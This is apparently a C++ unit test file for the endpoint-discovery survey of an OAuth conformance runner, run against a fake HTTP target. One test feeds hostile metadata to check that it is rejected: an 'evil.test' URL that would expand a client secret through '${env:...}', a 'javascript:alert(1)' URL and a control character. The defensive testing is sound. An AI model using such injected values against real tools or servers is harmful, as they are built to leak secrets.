#include "conformance/runner/target_survey.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <map>

namespace ock::conformance::runner {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

const std::string kBase = "http://as.test";

// Canned replies by "METHOD URL"; anything else is a 404 HTML page (Django's DEBUG 404).
class FakeTarget : public engine::Transport {
 public:
  void on(const std::string& method, const std::string& path, int status, std::string body,
          std::string content_type = "application/json") {
    engine::HttpResponse r;
    r.status = status;
    r.body = std::move(body);
    r.headers.push_back({"Content-Type", std::move(content_type)});
    replies_[method + " " + kBase + path] = r;
  }
  void redirect(const std::string& path, const std::string& location) {
    engine::HttpResponse r;
    r.status = 302;
    r.headers.push_back({"Location", location});
    replies_["GET " + kBase + path] = r;
  }
  bool down = false;
  std::vector<std::string> sent;

  Result<engine::HttpExchange, engine::TransportError> send(
      const engine::HttpRequest& request) override {
    sent.push_back(request.method + " " + request.url);
    if (down)
      return fail(engine::TransportError{engine::TransportError::Kind::kConnect,
                                         "Failed to connect to as.test port 80: refused"});
    engine::HttpExchange x;
    x.request = request;
    auto it = replies_.find(request.method + " " + request.url);
    if (it != replies_.end()) {
      x.response = it->second;
    } else {
      x.response.status = 404;
      x.response.body = "<!DOCTYPE html><title>Page not found</title>";
      x.response.headers.push_back({"Content-Type", "text/html; charset=utf-8"});
    }
    return x;
  }

 private:
  std::map<std::string, engine::HttpResponse> replies_;
};

SurveyOptions options() { return {.base_url = kBase, .given = {}}; }

TEST(SurveyTest, ReadsRfc8414Metadata) {
  FakeTarget t;
  t.on("GET", "/.well-known/oauth-authorization-server", 200, R"({
    "issuer": "http://as.test", "token_endpoint": "http://as.test/oauth/token/",
    "revocation_endpoint": "http://as.test/oauth/revoke_token/",
    "authorization_endpoint": "http://as.test/oauth/authorize/",
    "grant_types_supported": ["password", "refresh_token", 7, "password"],
    "token_endpoint_auth_methods_supported": ["client_secret_basic"],
    "scopes_supported": ["read", "write"]})");
  auto f = survey_target(t, options());
  ASSERT_TRUE(f.has_value()) << f.error();
  EXPECT_EQ(f->metadata_url, kBase + "/.well-known/oauth-authorization-server");
  EXPECT_EQ(f->issuer, kBase);
  EXPECT_EQ(f->endpoints.at("token"), kBase + "/oauth/token/");
  EXPECT_EQ(f->endpoints.at("authorization"), kBase + "/oauth/authorize/");
  EXPECT_FALSE(f->endpoints.contains("introspection"));
  EXPECT_EQ(f->grants, (std::vector<std::string>{"password", "refresh_token"}));
  EXPECT_EQ(f->scopes, (std::vector<std::string>{"read", "write"}));
  EXPECT_EQ(t.sent.size(), 1u);  // metadata found: nothing probed
}

TEST(SurveyTest, FallsBackToOpenIdConfiguration) {
  FakeTarget t;
  t.on("GET", "/.well-known/openid-configuration", 200,
       R"({"issuer": "http://as.test", "token_endpoint": "http://as.test/token"})");
  auto f = survey_target(t, options());
  ASSERT_TRUE(f.has_value()) << f.error();
  EXPECT_EQ(f->metadata_url, kBase + "/.well-known/openid-configuration");
  EXPECT_EQ(f->endpoints.at("token"), kBase + "/token");
}

TEST(SurveyTest, AnHtmlPageWhereMetadataBelongsIsOneSentence) {
  FakeTarget t;
  t.on("GET", "/.well-known/oauth-authorization-server", 200, "<html><body>Welcome</body></html>",
       "text/html");
  auto f = survey_target(t, options());
  ASSERT_FALSE(f.has_value());
  EXPECT_THAT(f.error(), HasSubstr("an HTML page"));
  EXPECT_THAT(f.error(), HasSubstr("--base-url"));
  EXPECT_THAT(f.error(), Not(HasSubstr("\n")));
}

TEST(SurveyTest, HostileMetadataValuesAreDropped) {
  FakeTarget t;
  // "${env:...}" would make the runner expand the user's environment into a URL the target
  // chose; control characters and non-URLs are dropped too.
  t.on("GET", "/.well-known/oauth-authorization-server", 200, R"J({
    "issuer": "http://as.test", "token_endpoint": "http://as.test/oauth/token/",
    "revocation_endpoint": "http://evil.test/?s=${env:OCK_CLIENT_PRIMARY_SECRET}",
    "introspection_endpoint": "javascript:alert(1)",
    "authorization_endpoint": "http://as.test/a\u0000b",
    "scopes_supported": ["read", "${env:HOME}", "a b", ""]})J");
  auto f = survey_target(t, options());
  ASSERT_TRUE(f.has_value()) << f.error();
  EXPECT_EQ(f->endpoints.size(), 1u);
  EXPECT_EQ(f->scopes, (std::vector<std::string>{"read"}));
  bool noted = false;
  for (const auto& n : f->notes) noted = noted || n.find("revocation_endpoint") != n.npos;
  EXPECT_TRUE(noted);
}

TEST(SurveyTest, MetadataWithoutATokenEndpointNeedsTheFlag) {
  FakeTarget t;
  t.on("GET", "/.well-known/oauth-authorization-server", 200,
       R"({"issuer": "http://as.test", "token_endpoint": "${env:HOME}"})");
  auto f = survey_target(t, options());
  ASSERT_FALSE(f.has_value());
  EXPECT_THAT(f.error(), HasSubstr("--endpoint token=PATH"));
  auto given = options();
  given.given["token"] = "/oauth/token/";
  EXPECT_TRUE(survey_target(t, given).has_value());
}

TEST(SurveyTest, DeeplyNestedMetadataDoesNotCrash) {
  FakeTarget t;
  t.on("GET", "/.well-known/oauth-authorization-server", 200,
       std::string(100000, '[') + std::string(100000, ']'));
  auto f = survey_target(t, options());
  ASSERT_FALSE(f.has_value());
  EXPECT_THAT(f.error(), HasSubstr("not a JSON object"));
}

TEST(SurveyTest, WithoutMetadataProbesTheUsualPaths) {
  FakeTarget t;  // Django OAuth Toolkit as the tutorial mounts it
  t.on("POST", "/oauth/token/", 400, R"({"error": "unsupported_grant_type"})");
  t.on("POST", "/oauth/revoke_token/", 400, R"({"error": "invalid_request"})");
  t.on("POST", "/oauth/introspect/", 403, "", "text/html; charset=utf-8");
  t.redirect("/oauth/authorize/", "http://as.test/admin/login/?next=/oauth/authorize/");
  auto f = survey_target(t, options());
  ASSERT_TRUE(f.has_value()) << f.error();
  EXPECT_EQ(f->metadata_url, "");
  EXPECT_EQ(f->issuer, "");
  EXPECT_EQ(f->endpoints.at("token"), kBase + "/oauth/token/");
  EXPECT_EQ(f->endpoints.at("revocation"), kBase + "/oauth/revoke_token/");
  EXPECT_EQ(f->endpoints.at("introspection"), kBase + "/oauth/introspect/");
  EXPECT_EQ(f->endpoints.at("authorization"), kBase + "/oauth/authorize/");
  std::string notes;
  for (const auto& n : f->notes) notes += n + "\n";
  EXPECT_THAT(notes, HasSubstr("unsupported_grant_type"));
}

TEST(SurveyTest, ProbesSiblingsOfTheTokenPathFirst) {
  FakeTarget t;
  t.on("POST", "/o/token/", 401, R"({"error": "invalid_client"})");
  t.on("POST", "/o/revoke_token/", 401, R"({"error": "invalid_client"})");
  t.on("POST", "/oauth/revoke_token/", 401, R"({"error": "invalid_client"})");
  auto f = survey_target(t, options());
  ASSERT_TRUE(f.has_value()) << f.error();
  EXPECT_EQ(f->endpoints.at("token"), kBase + "/o/token/");
  EXPECT_EQ(f->endpoints.at("revocation"), kBase + "/o/revoke_token/");
  EXPECT_FALSE(f->endpoints.contains("introspection"));
  EXPECT_FALSE(f->endpoints.contains("authorization"));
}

TEST(SurveyTest, AnHtml200IsNoEndpoint) {
  FakeTarget t;  // a catch-all web app answers every path
  t.on("POST", "/oauth/token/", 200, "<html>app</html>", "text/html");
  t.on("POST", "/o/token/", 400, "<html>Bad request</html>", "text/html");
  auto f = survey_target(t, options());
  ASSERT_FALSE(f.has_value());
  EXPECT_THAT(f.error(), HasSubstr("found neither metadata nor a token endpoint"));
  EXPECT_THAT(f.error(), HasSubstr("/oauth/token/, /o/token/"));
  EXPECT_THAT(f.error(), HasSubstr("--endpoint token=PATH"));
}

TEST(SurveyTest, AGivenTokenEndpointIsNotProbed) {
  FakeTarget t;
  t.on("POST", "/api/oauth2/revoke", 400, R"({"error": "invalid_request"})");
  auto o = options();
  o.given["token"] = "/api/oauth2/token";
  auto f = survey_target(t, o);
  ASSERT_TRUE(f.has_value()) << f.error();
  EXPECT_FALSE(f->endpoints.contains("token"));
  EXPECT_EQ(f->endpoints.at("revocation"), kBase + "/api/oauth2/revoke");
  for (const auto& s : t.sent) EXPECT_THAT(s, Not(HasSubstr("token/"))) << s;
}

TEST(SurveyTest, AnUnreachableTargetIsOneSentence) {
  FakeTarget t;
  t.down = true;
  auto f = survey_target(t, options());
  ASSERT_FALSE(f.has_value());
  EXPECT_THAT(f.error(), HasSubstr("cannot reach http://as.test/.well-known/"));
  EXPECT_THAT(f.error(), HasSubstr("connect"));
  EXPECT_EQ(t.sent.size(), 1u);
}

TEST(RecognitionTest, WhatCountsAsAnEndpoint) {
  engine::HttpResponse r;
  r.status = 400;
  r.body = R"({"error":"invalid_request"})";
  EXPECT_TRUE(looks_like_token_endpoint(r));
  r.body = R"({"error":""})";
  EXPECT_FALSE(looks_like_token_endpoint(r));
  r.status = 404;
  r.body = R"({"error":"not_found"})";
  EXPECT_FALSE(looks_like_token_endpoint(r));
  r.status = 401;
  r.body = "";
  EXPECT_FALSE(looks_like_token_endpoint(r));
  EXPECT_TRUE(looks_like_protected_endpoint(r));
  r.body = "<html>login</html>";
  EXPECT_FALSE(looks_like_protected_endpoint(r));
  r.status = 200;
  EXPECT_FALSE(looks_like_authorization_endpoint(r));
  r.status = 302;
  EXPECT_FALSE(looks_like_authorization_endpoint(r));  // no Location
  r.headers.push_back({"Location", "/login"});
  EXPECT_TRUE(looks_like_authorization_endpoint(r));
}

TEST(CandidatesTest, SiblingsKeepTheTrailingSlash) {
  auto c = sibling_candidates("revocation", "/o/token/");
  ASSERT_GE(c.size(), 3u);
  EXPECT_EQ(c[0], "/o/revoke_token/");
  EXPECT_EQ(c[1], "/o/revoke/");
  EXPECT_EQ(sibling_candidates("authorization", "/token"),
            (std::vector<std::string>{"/authorize", "/authorization"}));
  EXPECT_EQ(token_path_candidates().front(), "/oauth/token/");
}

}  // namespace
}  // namespace ock::conformance::runner
